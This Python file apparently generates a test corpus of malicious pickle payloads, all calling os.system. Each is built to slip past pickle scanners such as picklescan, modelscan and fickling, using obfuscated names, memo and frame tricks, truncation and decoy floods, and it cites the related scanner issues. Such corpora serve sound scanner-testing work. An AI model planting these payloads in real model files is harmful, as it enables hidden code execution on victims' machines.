"""Hostile pickles by what they do to the reader: opcodes, names, memo, stack, frames, ends.

The payload is always the same os.system; what differs is how a reader that is
not CPython's own comes to a different result.
"""
import struct

from asm import (CODE, COMMAND, Op, build, call, evil, g, glob, new, new_ex, p4, proto, push,
                 setitem, sglob, system, text, then, tup)

C = COMMAND.encode()
CMD = b"X" + struct.pack("<I", len(C)) + C
ISSUE = "issue 3: the pickle machine"
NULLIFAI = "ReversingLabs: nullifAI, broken pickles"


def rows(case):
    opcodes(case)
    names(case)
    memos(case)
    stack(case)
    frames(case)
    ends(case)
    crowds(case)


def opcodes(case):
    t, ref = "opcode", "CPython Modules/_pickle.c"
    case("reduce", t, ref, evil())
    case("obj", t, "fickling pull 108", b"(cposix\nsystem\n" + CMD + b"o.")
    case("obj-no-proto", t, "fickling pull 108", b"(cos\nsystem\nV" + C + b"\no.")
    case("inst", t, "picklescan issue 13", b"(V" + C + b"\niposix\nsystem\n.")
    case("inst-python2-name", t, "picklescan issue 13",
         b"(V" + CODE.encode() + b"\ni__builtin__\nexec\n.")
    case("inst-class", t, ref, b"((lp0\nV/bin/sh\naV-c\naV" + C + b"\nai" +
         b"subprocess\nPopen\n.")
    case("newobj-map", t, ref, p4(new("builtins:tuple", new("builtins:map", g("os:system"),
                                                            [COMMAND]))))
    case("newobj-ex-map", t, ref, p4(new_ex("builtins:tuple", (new_ex(
        "builtins:map", (g("os:system"), [COMMAND]), {}),), {})))
    case("newobj-ex-class", t, ref, p4(new_ex("builtins:map", (g("os:system"), [COMMAND]), {})),
         fires="no effect to see")
    case("build-setstate", t, ref, p4(build(build(new("argparse:Namespace"), {
        "__setstate__": g("os:system")}), COMMAND)))
    case("ext1-after-registry", t, ISSUE, p4(then(setitem(g(
        "copyreg:_inverted_registry"), 1, ("posix", "system")), Op(
            b"\x82\x01" + CMD + b"\x85R"))))
    case("persid-text", t, ref, b"Ppratique\n.", fires=False, hold_ok=True)
    case("binpersid", t, ref, b"\x80\x02" + system() + b"Q.")
    case("binpersid-argument", t, ref, p4(Op(tup("storage", system(), "0", "cpu", 1) + b"Q")))
    case("global-only", t, "a dangerous name as a value", b"\x80\x02cposix\nsystem\n.",
         fires="no effect to see")
    case("global-in-dict", t, "a dangerous name as a value", p4(push({"f": g("os:system")})),
         fires="no effect to see")
    case("reduce-then-pop", t, "fickling: calls vanish when popped", p4(then(system(), 1)))
    case("reduce-in-dict-key", t, ref, p4(setitem(Op(b"}"), system(), 1)))
    case("reduce-as-state", t, ref, p4(build(new("argparse:Namespace"), push({
        "a": system()}))))
    case("next-buffer", t, "protocol 5 buffer without a buffer", b"\x80\x05" + system() +
         b"\x97.")
    case("readonly-buffer", t, "protocol 5 buffer", b"\x80\x05" + system() + b"\x98.")
    case("bytearray8-first", t, "modelscan issue 338: unhashable on the stack", proto(
        5, b"\x96" + struct.pack("<Q", 6) + b"system0", system()))
    case("float-first", t, "fickling issue 322", b"}F1.0\n0" + system() + b".")
    case("every-push-first", t, "fickling issue 322", b"\x80\x05" + b"0".join([
        b"I01\n", b"I7\n", b"L7L\n", b"F.5\n", b"K\x01", b"M\x01\x00", b"J\x01\0\0\0",
        b"\x8a\x01\x05", b"\x8b\x01\0\0\0\x05", b"G" + b"\0" * 8, b"N", b"\x88", b"\x89",
        b"S'a'\n", b"T\x01\0\0\0a", b"U\x01a", b"Va\n", b"X\x01\0\0\0a", b"\x8c\x01a",
        b"\x8d\x01\0\0\0\0\0\0\0a", b"B\x01\0\0\0a", b"C\x01a",
        b"\x8e\x01\0\0\0\0\0\0\0a", b"\x96\x01\0\0\0\0\0\0\0a", b"]", b"}", b")", b"\x8f",
        b"(t", b"(l", b"(d", b"(\x91"]) + b"0" + system() + b".")
    case("stack-global-int-operand", t, "picklescan type-confusion-exploit, modelscan 338", p4(
        then(system(), Op(push(42) + push("os") + b"\x93"))))
    case("stack-global-bytes-operand", t, "modelscan issue 338", p4(then(system(), Op(
        push(b"os") + push("system") + b"\x93"))))
    case("stack-global-list-operand", t, "modelscan issue 338", p4(then(system(), Op(
        b"]" + push("system") + b"\x93"))))


def names(case):
    t = "names"
    pay = lambda g_: bytes(b"\x80\x04" + g_ + CMD + b"\x85R.")
    two = lambda g_, n=2: bytes(b"\x80" + bytes([n]) + g_ + CMD + b"\x85R.")
    case("stack-global-strings", t, "GHSA-9gvj-pp9x-gcfr",
         b"S'os'\nS'system'\n\x93S'" + C.replace(b"'", b"\\'") + b"'\n\x85R.")
    case("stack-global-escaped-string", t, ISSUE,
         b"S'\\x6f\\x73'\nS'\\163ystem'\n\x93V" + C + b"\n\x85R.")
    case("stack-global-double-quoted", t, ISSUE, b'S"os"\nS"system"\n\x93V' + C + b"\n\x85R.")
    case("stack-global-unicode-escape", t, ISSUE,
         b"V\\u006f\\u0073\nVsys\\u0074em\n\x93V" + C + b"\n\x85R.")
    case("stack-global-unicode-long-escape", t, ISSUE,
         b"V\\U0000006fs\nVsystem\n\x93V" + C + b"\n\x85R.")
    case("stack-global-short-binstring", t, "GHSA-9gvj-pp9x-gcfr",
         b"U\x02osU\x06system\x93V" + C + b"\n\x85R.")
    case("stack-global-binstring", t, "GHSA-9gvj-pp9x-gcfr",
         b"T\x02\0\0\0osT\x06\0\0\0system\x93V" + C + b"\n\x85R.")
    case("stack-global-binunicode8", t, ISSUE,
         b"\x80\x04\x8d\x02\0\0\0\0\0\0\0os\x8d\x06\0\0\0\0\0\0\0system\x93" + CMD + b"\x85R.")
    case("stack-global-empty-escapes", t, ISSUE,
         b"S'o\\\ns'\nS'system'\n\x93V" + C + b"\n\x85R.", fires=False,
         want=("refuse", "undecided", "hold", "admit"))
    case("dotted-protocol-4", t, "dotted names from protocol 4 on", pay(sglob("posixpath",
                                                                             "os.system")))
    case("dotted-global-protocol-4", t, "GLOBAL with a dotted name", pay(glob("shutil",
                                                                             "os.system")))
    case("dotted-deep", t, ISSUE, pay(sglob("shutil", "os.path.os.path.os.system")))
    case("dotted-protocol-2", t, "dotted names fail before protocol 4", two(glob(
        "posixpath", "os.system")), fires=False, hold_ok=True)
    case("dotted-protocol-0-stack-global", t, "STACK_GLOBAL without PROTO",
         b"Vposixpath\nVos.system\n\x93V" + C + b"\n\x85R.", fires=False, hold_ok=True)
    case("dotted-uuid", t, "module attribute of an innocent module", pay(sglob("uuid",
                                                                              "os.system")))
    case("dotted-random", t, "module attribute of an innocent module", pay(sglob(
        "random", "_os.system")))
    case("dotted-sys-modules", t, "module attribute of an innocent module", p4(call(call(
        "builtins:getattr", call("datetime:sys.modules.get", "os"), "system"), COMMAND)))
    case("dotted-function-globals", t, "function globals", p4(call(call(
        "builtins:getattr", call("random:Random.seed.__globals__.get", "_os"), "system"),
        COMMAND)))
    case("dotted-numpy", t, "modelscan issue 89", pay(sglob(
        "numpy.testing._private.utils", "os.system")), needs="numpy")
    case("dotted-torch", t, "modelscan issue 89", pay(sglob("torch.serialization", "os.system")),
         needs="torch")
    case("dotted-torch-utils", t, "modelscan issue 89", pay(sglob("torch._utils",
         "sys.modules.get")), needs="torch", fires="no effect to see")
    case("dotted-sklearn", t, "modelscan issue 89", pay(sglob("sklearn.utils._bunch",
         "warnings.sys.modules.get")), needs="sklearn", fires="no effect to see")
    case("dotted-pandas", t, "modelscan issue 89", pay(sglob("pandas.io.common", "os.system")),
         needs="pandas")
    case("dotted-allowed-class", t, "an allowed class, then its attributes", pay(sglob(
        "collections", "OrderedDict.fromkeys.__class__.__base__.__subclasses__")),
        fires="no effect to see")
    case("dotted-allowed-class-init-globals", t, "an allowed class, then its attributes", p4(
        call(call("builtins:getattr", call("builtins:dict.get", sglob(
            "argparse", "Namespace.__init__.__globals__"), "_os"), "system"), COMMAND)))
    case("locals-in-name", t, "<locals> in a name fails", pay(sglob("os", "<locals>.system")),
         fires=False, hold_ok=True)
    for i, (m, n) in enumerate([("__builtin__", "eval"), ("__builtin__", "execfile"),
                                ("commands", "getoutput"), ("cPickle", "loads"),
                                ("urllib", "urlopen"), ("urllib2", "urlopen"),
                                ("__builtin__", "apply"), ("__builtin__", "reduce"),
                                ("__builtin__", "open"), ("os", "getcwdu"),
                                ("exceptions", "eval"), ("__builtin__", "__import__"),
                                ("popen2", "popen2"), ("thread", "start_new_thread"),
                                ("httplib", "HTTPConnection"), ("__builtin__", "input")]):
        fire = m == "commands"
        case("python2-%s-%s" % (m.strip("_"), n), t, "fix_imports and Python 2", two(glob(m, n)),
             fires=fire, hold_ok=(m, n) in [("os", "getcwdu"), ("exceptions", "eval")])
    case("python2-imap", t, "fix_imports: itertools.imap is map", proto(
        2, glob("__builtin__", "tuple"), glob("itertools", "imap"), glob("posix", "system"),
        b"](" + CMD + b"e\x86R\x85R"))
    case("python2-copy-reg", t, "fix_imports: copy_reg", proto(
        2, glob("copy_reg", "_reconstructor"), glob("subprocess", "Popen"),
        glob("subprocess", "Popen"), b"](X\x07\0\0\0/bin/shX\x02\0\0\0-c" + CMD + b"e\x87R"))
    case("python2-name-in-protocol-4", t, "fix_imports stops at protocol 3", pay(glob(
        "commands", "getoutput")), fires=False)
    case("module-trailing-space", t, "odd white space", two(glob("os ", "system")), fires=False,
         hold_ok=True)
    case("module-carriage-return", t, "odd white space", two(glob("os\r", "system\r")),
         fires=False, hold_ok=True)
    case("module-leading-space", t, "odd white space", two(glob(" os", " system")), fires=False,
         hold_ok=True)
    case("module-space-in-global", t, "GLOBAL text holds a space", two(glob("os system", "x")),
         fires=False, hold_ok=True)
    case("module-fullwidth", t, "odd unicode", two(glob("\uff4f\uff53", "system")), fires=False,
         hold_ok=True)
    case("name-fullwidth", t, "odd unicode", two(glob("os", "\uff53ystem")), fires=False)
    case("module-nul", t, "CPython from 3.11 on finds frozen modules by the name up to a NUL",
         two(glob("os\0x", "system")))
    case("module-nul-stack-global", t, "frozen modules and NUL", pay(sglob("os\0", "system")))
    case("module-nul-posixpath", t, "frozen modules and NUL", pay(sglob("posixpath\0collections",
                                                                       "os.system")))
    case("module-nul-codecs", t, "frozen modules and NUL", p4(call("codecs\0:open",
                                                                  "pratique-marker", "w")))
    case("module-nul-not-frozen", t, "NUL in the name of a module that is not frozen", pay(sglob(
        "shutil\0x", "os.system")), fires=False, hold_ok=True)
    case("name-nul", t, "NUL in the name", pay(sglob("os", "system\0x")), fires=False)
    case("module-dot-dot", t, "relative name", two(glob(".os", "system")), fires=False,
         hold_ok=True)
    case("module-trailing-dot", t, "odd name", two(glob("os.", "system")), fires=False,
         hold_ok=True)
    case("module-os-path", t, "os.path is posixpath", pay(glob("os.path", "os.system")))
    case("name-empty", t, "odd name", two(glob("os", "")), fires=False)
    case("module-empty", t, "odd name", two(glob("", "system")), fires=False, hold_ok=True)
    case("name-invalid-utf8", t, "picklescan not_a_pickle",
         b"\x80\x02" + system() + b"0cmod\n\xf8\n.")
    case("module-case", t, "other case", two(glob("OS", "system")), fires=False, hold_ok=True)
    case("surrogate-name", t, "lone surrogate", p4(then(system(), Op(
        b"\x8c\x03\xed\xa0\x80\x8c\x01x\x93"))))
    case("join-name", t, "modelscan issue 331", p4(call(Op(
        call("builtins:str.join", "", ["o", "s"]) + call("builtins:str.join", "", [
            "sys", "tem"]) + b"\x93"), COMMAND)))
    case("concat-name", t, ISSUE, p4(call(Op(call("operator:add", "o", "s") + call(
        "operator:add", "sys", "tem") + b"\x93"), COMMAND)))
    case("decode-name", t, ISSUE, p4(call(Op(call("codecs:decode", "bf", "rot13") + call(
        "codecs:decode", "flfgrz", "rot13") + b"\x93"), COMMAND)))
    case("replace-name", t, ISSUE, p4(call(Op(call("builtins:str.replace", "oXs", "X", "") +
         call("builtins:str.lower", "SYSTEM") + b"\x93"), COMMAND)))
    case("format-name", t, ISSUE, p4(call(Op(call("builtins:str.format", "{}s", "o") + call(
        "builtins:str.format", "sys{}", "tem") + b"\x93"), COMMAND)))
    case("slice-name", t, ISSUE, p4(call(Op(call("operator:getitem", "so", call(
        "builtins:slice", None, None, -1)) + text("system") + b"\x93"), COMMAND)))
    case("bytes-decode-name", t, ISSUE, p4(call(Op(call("_codecs:decode", b"os", "ascii") + call(
        "builtins:bytes.decode", b"system") + b"\x93"), COMMAND)))
    case("intern-name", t, ISSUE, p4(call(Op(call("sys:intern", "os") + call(
        "sys:intern", "system") + b"\x93"), COMMAND)))
    case("str-of-name", t, "an innocent constructor builds the name", p4(call(Op(call(
        "builtins:str", "os") + call("builtins:str", "system") + b"\x93"), COMMAND)))
    case("str-of-bytes-name", t, "an innocent constructor builds the name", p4(call(Op(call(
        "builtins:str", b"os", "ascii") + call("builtins:str", b"system", "ascii") + b"\x93"),
        COMMAND)))
    case("list-item-name", t, "innocent calls build the name", p4(call(Op(call(
        "builtins:min", ["os", "z"]) + call("builtins:max", ["a", "system"]) + b"\x93"),
        COMMAND)))


def memos(case):
    t = "memo"
    use = b"\x93" + CMD + b"\x85R."
    head = b"\x80\x04"
    case("names-put-2-get", t, "picklescan issue 22, imaginaryCTF Safe Pickle",
         b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V" + C +
         b"\ntR.")
    case("overwritten-slot", t, ISSUE, head + b"\x8c\x05torchq\x000\x8c\x02osq\x000h\x00" +
         b"\x8c\x06system" + use)
    case("memoize-after-put", t, "MEMOIZE numbers by count, not by the highest index",
         head + b"\x8c\x05torchq\x070\x8c\x02os\x940\x8c\x06system\x940h\x01h\x02" + use)
    case("memoize-after-two-puts-one-slot", t, "MEMOIZE counts slots, not stores",
         head + b"\x8c\x01aq\x000\x8c\x01bq\x000\x8c\x02os\x940\x8c\x06systemq\x050h\x01h\x05" +
         use)
    case("memoize-collides", t, "MEMOIZE overwrites a stored slot",
         head + b"\x8c\x05torchq\x010\x8c\x02os\x940h\x01\x8c\x06system" + use)
    case("put-underscore-index", t, "PUT reads its index as a Python int: 1_0 is 10",
         head + b"\x8c\x02osp1_0\n0\x8c\x06systemp+11\n0h\x0ah\x0b" + use)
    case("put-spaces-index", t, "PUT reads its index as a Python int",
         head + b"\x8c\x02osp 3 \n0\x8c\x06systemp\t4\n0h\x03h\x04" + use)
    case("get-underscore-index", t, "GET reads its index as a Python int",
         head + b"\x8c\x02osq\x0a0\x8c\x06systemq\x0b0g1_0\ng0011\n" + use)
    case("get-crlf-index", t, "GET reads its index as a Python int",
         head + b"\x8c\x02osq\x010\x8c\x06systemq\x020g1\r\ng2\r\n" + use)
    case("put-zero-padded", t, "GET reads its index as a Python int",
         head + b"\x8c\x02osp0005\n0\x8c\x06systemp6\n0g5\ng00006\n" + use)
    case("put-minus-zero", t, "PUT -0", head + b"\x8c\x02osp-0\n0g0\n\x8c\x06system" + use)
    case("put-negative", t, "negative index", b"\x80\x02" + system() + b"p-1\n.")
    case("put-text", t, "index that is no number", b"\x80\x02" + system() + b"pabc\n.")
    case("put-hex", t, "index that is no number", b"\x80\x02" + system() + b"p0x1\n.")
    case("put-huge", t, ISSUE, b"\x80\x02" + system() + b"p99999999999999999999\n.")
    case("long-binput-max", t, ISSUE, b"\x80\x02" + system() + b"r\xff\xff\xff\xff.",
         fires=True)
    case("long-binput-million", t, ISSUE, head + b"\x8c\x02osr\x40\x42\x0f\x00" +
         b"0j\x40\x42\x0f\x00\x8c\x06system" + use)
    case("get-missing-after", t, "picklescan keyerror-exploit", p4(then(system(), Op(b"h\x63"))))
    case("get-missing-operand", t, "picklescan keyerror-exploit", p4(then(system(), Op(
        text("os") + b"\x940h\x03h\x00\x93"))))
    case("put-of-mark-scope", t, ISSUE, head + b"(\x8c\x02os\x94\x8c\x06system\x941h\x00h\x01" +
         use)
    case("callable-in-memo", t, "modelaudit pull 493", head + sglob("posix", "system") +
         b"\x940\x8c\x05torch0h\x00" + CMD + b"\x85R.")
    case("callable-in-list", t, "taken back out by itemgetter",
         p4(call(call("operator:getitem", [g("os:system")], 0), COMMAND)))
    case("args-in-memo", t, ISSUE, head + CMD + b"\x85\x940" + sglob("posix", "system") +
         b"h\x00R.")
    case("self-reference", t, "recursive list before the payload", head + b"]\x94h\x00a0" +
         system() + b".")
    case("recursive-args", t, "recursive tuple through the memo", head + b"]\x94(h\x00t\x94a0" +
         system() + b".")
    case("decoy-strings-between", t, "modelaudit pull 518", head + text("os") + b"\x94" + text(
        "system") + b"\x9400" + text("collections") + text("OrderedDict") + b"00h\x00h\x01" +
        use)
    case("decoy-popped-operand", t, "modelaudit pull 518", head + text("os") + text("system") +
         text("numpy") + b"0" + use)
    case("dup-operand", t, ISSUE, head + text("posix") + text("system") + b"20" + use)


def stack(case):
    t = "stack"
    s = system()
    case("pop-mark", t, ISSUE, p4(b"(", push(1), push(2), b"1", s))
    case("pop-removes-mark", t, "POP on a mark", p4(b"(0", s))
    case("nested-marks", t, ISSUE, p4(b"((((", s, b"llll"))
    case("payload-under-mark-popped", t, "POP_MARK after the call", p4(b"(", s, b"1N"))
    case("payload-in-tuple-items", t, ISSUE, p4(b"(", s, s, b"t"))
    case("dup-callable", t, ISSUE, p4(glob("posix", "system"), b"2", CMD, b"\x85R0", CMD,
                                      b"\x85R"))
    case("empty-stack-after", t, "stack underflow after the call", bytes(b"\x80\x04" + s +
                                                                        b"000000."))
    case("underflow-before-stop", t, "STOP with an empty stack", bytes(b"\x80\x04" + s + b"0."))
    case("mark-at-stop", t, "STOP above a mark", bytes(b"\x80\x04(" + s + b"(."))
    case("unclosed-mark", t, "mark never used", bytes(b"\x80\x04(((((" + s + b"."))
    case("many-left-on-stack", t, "fickling issue 19", bytes(b"\x80\x04" + b"N" * 100 + s +
                                                            b"."))
    case("payload-first-then-benign", t, "fickling issue 19", bytes(b"\x80\x04" + s + b"0" + push(
        {"weight": [1, 2, 3]}) + b"."))
    case("payload-inside-benign", t, "coldwaterq pickle_injector", p4(push({
        "a": [1, s, {"b": (s,)}]})))
    case("setitems-odd", t, "odd number of items", bytes(b"\x80\x04" + s + b"0}(K\x01u."))
    case("reduce-non-tuple", t, "REDUCE with a list", bytes(
        b"\x80\x04" + s + b"0" + glob("posix", "system") + b"]R."))
    case("build-on-none", t, "BUILD of None", bytes(b"\x80\x04" + s + b"0N}b."))
    case("appends-on-int", t, "APPENDS on an int", bytes(b"\x80\x04" + s + b"0K\x01(K\x02e."))


def frames(case):
    t, s = "framing", bytes(system())
    f = lambda n: b"\x95" + struct.pack("<Q", n)
    case("proto-twice", t, ISSUE, b"\x80\x02\x80\x04" + s + b".")
    case("proto-middle", t, ISSUE, b"\x80\x04" + s + b"0\x80\x02" + s + b".")
    case("proto-lowered-for-fix-imports", t, "fix_imports follows the last PROTO",
         b"\x80\x04N0\x80\x02ccommands\ngetoutput\n" + CMD + b"\x85R.")
    case("proto-raised-for-dots", t, "dotted names follow the last PROTO",
         b"\x80\x02N0\x80\x04cposixpath\nos.system\n" + CMD + b"\x85R.")
    case("proto-255-after", t, ISSUE, b"\x80\x04" + s + b"0\x80\xffN.")
    case("proto-255-first", t, ISSUE, b"\x80\xff" + s + b".", fires=False)
    case("proto-6-first", t, ISSUE, b"\x80\x06" + s + b".", fires=False)
    case("proto-0", t, ISSUE, b"\x80\x00" + s + b".")
    case("proto-late-op", t, "protocol 5 opcode under protocol 0", b"\x80\x00\x8c\x05posix" +
         b"\x8c\x06system\x93" + CMD + b"\x85R.")
    case("no-proto", t, ISSUE, s + b".")
    case("frame-zero", t, ISSUE, b"\x80\x04" + f(0) + s + b".")
    case("frame-too-long", t, ISSUE, b"\x80\x04" + f(1 << 20) + s + b".", fires=False)
    case("frame-too-long-after", t, ISSUE, b"\x80\x04" + s + b"0" + f(1 << 20) + b"N.")
    case("frame-huge-after", t, ISSUE, b"\x80\x04" + s + b"0" + f((1 << 64) - 1) + b"N.")
    case("frame-short", t, "the C unpickler does not hold frames", b"\x80\x04" + f(5) + s + b".")
    case("frame-overlap", t, ISSUE, b"\x80\x04" + f(len(s) + 10) + f(len(s)) + s + b".")
    case("frame-nested", t, ISSUE, b"\x80\x04" + f(len(s) + 40) + f(len(s) + 20) + f(3) + s +
         b"." + b"\0" * 60)
    case("frame-in-protocol-0", t, ISSUE, f(len(s) + 1) + s + b".")
    case("frame-hides-global", t, "a frame length over the payload's bytes",
         b"\x80\x04" + f(2) + b"N0" + s + b"." + b"A" * 40)
    case("frame-in-middle-of-string", t, "string runs over the frame's end",
         b"\x80\x04" + f(12) + text("os") + text("system") + b"\x93" + CMD + b"\x85R.")


def ends(case):
    t, s = "ends", bytes(system())
    q = lambda n: struct.pack("<Q", n)
    case("long4-beyond-file", t, ISSUE, b"\x80\x04" + s + b"0\x8b\xff\xff\xff\x7f.")
    case("long4-negative", t, ISSUE, b"\x80\x04" + s + b"0\x8b\xff\xff\xff\xff.")
    case("binbytes8-beyond-file", t, ISSUE, b"\x80\x04" + s + b"0\x8e" + q(1 << 40) + b".")
    case("binbytes8-max", t, ISSUE, b"\x80\x04" + s + b"0\x8e" + q((1 << 64) - 1) + b".")
    case("binunicode8-beyond", t, ISSUE, b"\x80\x04" + s + b"0\x8d" + q(1 << 40) + b".")
    case("bytearray8-beyond", t, ISSUE, b"\x80\x05" + s + b"0\x96" + q(1 << 40) + b".")
    case("binstring-negative", t, ISSUE, b"\x80\x02" + s + b"0T\xff\xff\xff\xff.")
    case("truncated-after-call", t, NULLIFAI, b"\x80\x02" + s)
    case("truncated-in-string", t, "picklescan broken_model", b"\x80\x02" + s + b"0X\xff\0\0\0a")
    case("truncated-protocol-0", t, "picklescan broken_model",
         b"cposix\nsystem\n(V" + C + b"\ntRX.")
    case("unknown-opcode-after", t, NULLIFAI, b"\x80\x02" + s + b"\xff\xfe.")
    case("unknown-opcode-nul", t, NULLIFAI, b"\x80\x02" + s + b"\0" * 30)
    case("nul-prefix", t, "zeros first: no reader starts", b"\0\0\0\0" + evil(), fires=False)
    case("garbage-after-stop", t, ISSUE, evil() + b"\xde\xad\xbe\xef" * 20)
    case("benign-then-bad", t, "picklescan malicious6", p4(push(["a", "b"])) + evil(),
         load="pickle-all")
    case("many-benign-then-bad", t, ISSUE, p4(push(1)) * 50 + evil(), load="pickle-all")
    case("benign-newline-bad", t, "text between pickles", p4(push(1)) + b"\n\n" + evil(),
         load="pickle-offset")
    case("benign-padding-bad", t, "zeros between pickles", p4(push(1)) + b"\0" * 512 + evil(),
         load="pickle-offset")
    case("benign-garbage-bad", t, "garbage between pickles", p4(push({"a": 1})) + bytes(
        range(128, 255)) + evil(), load="pickle-offset")
    case("bad-then-benign", t, ISSUE, evil() + p4(push(1)))
    case("bad-second-protocol-0", t, ISSUE, b"I1\n." + by0() + b"", load="pickle-all")
    case("error-first-then-bad", t, "the first pickle fails, the second does not", b"\x80\x04N00."
         + evil(), load="pickle-offset")
    case("int-text-tricks", t, "I with odd text first", b"I 01\n0I+5\n0L7L\n0F1e5\n0" + s +
         b".")
    case("invalid-utf8-string-after", t, NULLIFAI, b"\x80\x02" + s + b"0X\x02\0\0\0\xff\xfe.")
    case("string-unquoted-after", t, NULLIFAI, b"\x80\x02" + s + b"0Sabc\n.")
    case("float-text-after", t, NULLIFAI, b"\x80\x02" + s + b"0Fabc\n.")
    case("stop-inside-string", t, "a STOP byte inside a string", b"\x80\x02X\x03\0\0\0a.b0" + s +
         b".")
    case("pickle-in-a-string", t, "a string that is itself a pickle", p4(push(evil()), b"0", s))
    case("byte-order-mark", t, "UTF-8 mark first", b"\xef\xbb\xbf" + evil(), fires=False)
    case("leading-newline", t, "text first", b"\n" + evil(), fires=False)
    case("text-like", t, "reads as text: a letter first", b"I1\n0I2\n0" + b"(V" + C +
         b"\niposix\nsystem\n.")
    case("text-like-json", t, "looks like JSON or a dict", b"}0]0" + by0())
    case("text-like-python", t, "looks like a comment line", b"Vimport numpy as np\n0" + by0())
    case("text-like-long", t, "a page of text opcodes first", b"Vhello world, this is text\n0" *
         300 + by0())
    case("html-like", t, "no reader starts at '<'", b"<html>" + evil(), fires=False)


def by0():
    return b"cposix\nsystem\n(V" + C + b"\ntR."


def crowds(case):
    """Cases that make a scanner give up: size and number."""
    t, s = "crowds", bytes(system())
    case("dup-hundred-thousand", t, ISSUE, b"\x80\x04N" + b"2" * 100000 + s + b".")
    case("mark-hundred-thousand", t, ISSUE, b"\x80\x04" + b"(" * 100000 + s + b".")
    case("memoize-hundred-thousand", t, ISSUE, b"\x80\x04N" + b"\x94" * 100000 + b"0" + s + b".")
    case("empty-lists", t, ISSUE, b"\x80\x04" + b"]0" * 100000 + s + b".")
    case("deep-tuples", t, ISSUE, b"\x80\x04N" + b"\x85" * 50000 + b"0" + s + b".",
         fires=True)
    case("deep-lists", t, ISSUE, b"\x80\x04" + b"(" * 20000 + b"l" * 20000 + b"0" + s + b".")
    case("many-globals", t, "100 decoys before", b"\x80\x02" + b"".join(
        bytes(glob("collections", "OrderedDict")) + b"0" for _ in range(2000)) + s + b".")
    case("many-benign-calls", t, "decoy calls before", b"\x80\x02" + b"".join(
        bytes(glob("collections", "OrderedDict")) + b")R0" for _ in range(5000)) + s + b".")
    case("big-padding-first", t, "payload behind 2 MB of bytes", b"\x80\x04B" + struct.pack(
        "<I", 2 << 20) + b"\0" * (2 << 20) + b"0" + s + b".")
    case("many-pickles", t, "payload in pickle 20,001", b"\x80\x04N." * 20000 + evil(),
         load="pickle-all")
    case("doubling-list", t, "billion laughs through the memo", b"\x80\x04](K\x01K\x01e\x94" +
         b"".join(b"0](h" + bytes([i]) + b"h" + bytes([i]) + b"e\x94" for i in range(60)) +
         b"0" + s + b".")
